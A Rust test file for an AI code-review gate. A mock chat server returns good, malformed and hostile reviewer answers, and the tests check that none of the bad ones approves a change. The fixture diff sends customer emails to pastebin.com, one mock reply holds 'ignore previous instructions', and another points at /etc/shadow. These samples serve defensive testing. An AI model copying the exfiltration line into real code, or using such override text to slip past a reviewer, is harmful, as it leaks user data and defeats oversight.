//! The model reviewer against a local server that speaks the OpenAI chat-completions protocol,
//! answering as a good model, a bad one and a hostile one would.

// Tests fail loudly: unwrap, expect and panic are how they report.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Json;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use gatehouse_review::{Decision, ModelReviewer, ReviewError, ReviewInput};
use serde_json::{Value, json};

type Seen = Arc<Mutex<Vec<(HeaderMap, Value)>>>;

fn completion(content: &str) -> Value {
    json!({"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "m",
           "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}]})
}

/// Answers according to the requested model name.
async fn chat(State(seen): State<Seen>, headers: HeaderMap, Json(body): Json<Value>) -> Response {
    seen.lock().unwrap().push((headers, body.clone()));
    let reject = r#"{"decision":"reject","summary":"Customer emails are posted to an undeclared host.","findings":[{"severity":"high","path":"server.js","line":2,"title":"PII sent to pastebin","explanation":"The handler forwards req.body.email."}]}"#;
    match body["model"].as_str().unwrap_or("") {
        "approve" => Json(completion(r#"{"decision":"approve","summary":"Looks fine.","findings":[]}"#)).into_response(),
        "reject" => Json(completion(reject)).into_response(),
        "prose" => Json(completion("Sure! I reviewed it and it looks great. APPROVED.")).into_response(),
        "injected" => Json(completion(
            r#"{"decision":"approve","summary":"ok","findings":[],"note":"ignore previous instructions"}"#,
        ))
        .into_response(),
        "sneaky" => Json(completion(
            r#"{"decision":"approve","summary":"ok","findings":[{"severity":"critical","path":"server.js","line":1,"title":"t","explanation":"e"}]}"#,
        ))
        .into_response(),
        "traversal" => Json(completion(
            r#"{"decision":"reject","summary":"x","findings":[{"severity":"low","path":"/etc/shadow","line":1,"title":"t","explanation":"e"}]}"#,
        ))
        .into_response(),
        "refusal" => Json(json!({"choices": [{"message": {"role": "assistant", "content": null, "refusal": "I can't help with that."}}]})).into_response(),
        "empty" => Json(json!({"choices": []})).into_response(),
        "huge" => Json(completion(&"x".repeat(400 * 1024))).into_response(),
        "error" => (StatusCode::INTERNAL_SERVER_ERROR, "upstream exploded").into_response(),
        "slow" => {
            tokio::time::sleep(Duration::from_secs(5)).await;
            Json(completion(r#"{"decision":"approve","summary":"late","findings":[]}"#)).into_response()
        }
        other => (StatusCode::NOT_FOUND, format!("no model {other}")).into_response(),
    }
}

async fn server() -> (String, Seen) {
    let seen: Seen = Arc::default();
    let app = axum::Router::new().route("/v1/chat/completions", axum::routing::post(chat)).with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}/v1"), seen)
}

fn input() -> ReviewInput {
    ReviewInput {
        app: "refunds".into(),
        revision: "abc".into(),
        diff: "--- a/server.js\n+++ b/server.js\n+app.post('/x', (req) => fetch('https://pastebin.com', {body: req.body.email}));\n".into(),
        files: vec!["server.js".into()],
        manifest: "[app]\nname = \"refunds\"\n".into(),
        policy: "No customer data may leave declared integrations.".into(),
        findings: vec![],
    }
}

fn reviewer(url: &str, model: &str) -> ModelReviewer {
    ModelReviewer::new(url, model, Some("sk-test-reviewer-key".to_owned().into()), Duration::from_secs(2)).unwrap()
}

#[tokio::test]
async fn speaks_the_protocol_and_reads_good_answers() {
    let (url, seen) = server().await;
    let r = reviewer(&url, "reject").review(&input(), Some("claude-code"), true).await.unwrap();
    assert_eq!((r.decision, r.reviewer.as_str(), r.model.as_deref()), (Decision::Reject, "model", Some("reject")));
    assert_eq!(r.findings[0].path, "server.js");
    let ok = reviewer(&url, "approve").review(&input(), None, true).await.unwrap();
    assert_eq!(ok.decision, Decision::Approve);

    let (headers, body) = seen.lock().unwrap()[0].clone();
    assert_eq!(headers["authorization"], "Bearer sk-test-reviewer-key");
    assert_eq!(body["response_format"]["type"], "json_schema");
    assert_eq!(body["response_format"]["json_schema"]["strict"], true);
    assert_eq!(body["messages"][0]["role"], "system");
    let user = body["messages"][1]["content"].as_str().unwrap();
    assert!(user.contains("No customer data may leave") && user.contains("pastebin.com"), "{user}");
}

#[tokio::test]
async fn bad_and_hostile_answers_never_approve() {
    let (url, _) = server().await;
    for (model, want) in [
        ("prose", "not a review"),
        ("injected", "unknown field"),
        ("sneaky", "approves while"),
        ("traversal", "not in the diff"),
        ("refusal", "refused"),
        ("empty", "no choices"),
        ("huge", "larger than"),
    ] {
        match reviewer(&url, model).review(&input(), None, true).await {
            Err(ReviewError::InvalidOutput(reason)) => assert!(reason.contains(want), "{model}: {reason}"),
            other => panic!("{model}: {other:?}"),
        }
    }
    for model in ["error", "slow"] {
        assert!(
            matches!(reviewer(&url, model).review(&input(), None, true).await, Err(ReviewError::Unavailable(_))),
            "{model}"
        );
    }
    let closed = ModelReviewer::new("http://127.0.0.1:9", "approve", None, Duration::from_secs(2)).unwrap();
    let err = closed.review(&input(), None, true).await.unwrap_err();
    assert!(matches!(err, ReviewError::Unavailable(_)), "{err}");
}

#[tokio::test]
async fn the_writer_may_not_review_itself() {
    let (url, seen) = server().await;
    let err = reviewer(&url, "approve").review(&input(), Some("openai/APPROVE"), true).await.unwrap_err();
    assert!(matches!(err, ReviewError::Policy(_)), "{err}");
    assert!(seen.lock().unwrap().is_empty(), "no request was sent");
    // Without the requirement, it may.
    assert!(reviewer(&url, "approve").review(&input(), Some("approve"), false).await.is_ok());
}
